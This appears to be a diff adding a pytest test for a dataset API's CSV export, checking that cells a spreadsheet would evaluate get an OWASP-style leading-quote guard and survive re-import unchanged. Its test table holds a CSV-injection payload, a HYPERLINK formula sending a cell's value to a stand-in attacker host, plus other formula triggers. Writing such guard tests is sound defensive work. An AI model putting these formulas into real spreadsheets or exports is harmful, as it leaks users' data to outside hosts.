@@ -208,6 +208,32 @@ def test_an_export_imports_again_into_a_fresh_dataset(api, fmt, media):
     assert again[1]["job_id"] == "job, \"quoted\"\nline"
 
 
+# a text, and the CSV cell it is exported as: OWASP's CSV-injection guard (a leading ' before what a
+# spreadsheet would evaluate), and another ' before a text the import would otherwise read back changed
+GUARDED = {
+    '=HYPERLINK("http://evil.example/?"&A1,"open")': '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+2": "'+1+2", "-3": "'-3", "@SUM(A1:A9)": "'@SUM(A1:A9)", "\tTAB": "'\tTAB", "\rCR": "'\rCR",
+    "'=1": "''=1", "''=1": "'''=1", "'+x": "''+x", "'-": "''-", "'@": "''@", "'\t": "''\t", "'\r": "''\r",
+    "''": "'''", "'": "'", "'a": "'a", "a=b": "a=b", "plain.png": "plain.png",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_guarded_and_read_back_exactly(api):
+    project = f.project(api)
+    original = f.dataset(api, project)
+    for n, text in enumerate(GUARDED):
+        f.entry(api, original, text, job_id=text, priority=-n)
+    resp = export(api, original, "?format=csv")
+    rows = list(csv.DictReader(io.StringIO(resp.text, newline="")))
+    assert [(r["resource"], r["job_id"]) for r in rows] == [(cell, cell) for cell in GUARDED.values()]
+    assert [r["priority"] for r in rows] == [str(-n) for n in range(len(GUARDED))]  # numbers stay numbers
+    copy = f.dataset(api, project, "Copy")
+    imported = api.post(f"/datasets/{copy['id']}/import", raw=resp.content, headers={"Content-Type": CSV})
+    assert imported.json()["meta"]["created"] == len(GUARDED), imported.text
+    assert [importable(r) for r in jsonl(export(api, copy))] == \
+        [(text, -n, text, []) for n, text in enumerate(GUARDED)]
+
+
 # --- the formats, without the app ------------------------------------------------------------------
 
 @pytest.mark.parametrize(("accept", "image", "chosen"), [
